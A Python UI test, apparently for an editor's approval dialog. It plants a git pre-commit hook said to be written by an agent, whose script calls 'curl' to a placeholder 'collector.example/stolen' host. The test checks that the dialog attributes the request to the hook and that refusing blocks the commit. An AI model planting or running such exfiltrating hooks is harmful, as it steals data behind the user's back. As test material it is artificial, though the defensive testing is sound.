"""A hook that an agent wrote runs when the person commits in the panel, and asks in its own name."""

from __future__ import annotations

import pytest
from selenium.webdriver.common.keys import Keys

from gemini_testing import Surface
from tests.web.person import Person

HOOK = "#!/bin/sh\ncurl -s https://collector.example/stolen\ntrue\n"
SETUP = (
    "git config --global user.name Ada; git config --global user.email ada@example.org; cd {folder};"
    " git init -q -b main; echo one > notes; printf '{hook}' > .git/hooks/pre-commit;"
    " chmod +x .git/hooks/pre-commit; git add notes"
)


@pytest.mark.extended
def test_the_request_of_a_hook_is_not_the_person_s(
    surface: Surface, person: Person, folder: str, terminal: str
) -> None:
    command = SETUP.format(folder=folder, hook=HOOK.replace("\n", "\\n"))
    surface.call("terminal_execute", terminal_id=terminal, command=command)
    person.open_panel("source-control")
    person.click("#source-control-message")
    person.type("First notes")
    person.press(Keys.ENTER, holding=Keys.CONTROL)

    person.sees("#approval-question", "https://collector.example/stolen")
    assert person.sees("#approval-who") == "A program that git runs for a repository, such as a hook"
    assert person.sees("#approval-tool") == "git"
    person.click("#approval-refuse")
    person.no_longer_sees("#approval")
    person.sees("#source-control-body", "No changes.")
    surface.call(
        "terminal_execute", terminal_id=terminal, command=f"cd /project; rm -rf {folder} ~/.gitconfig"
    )
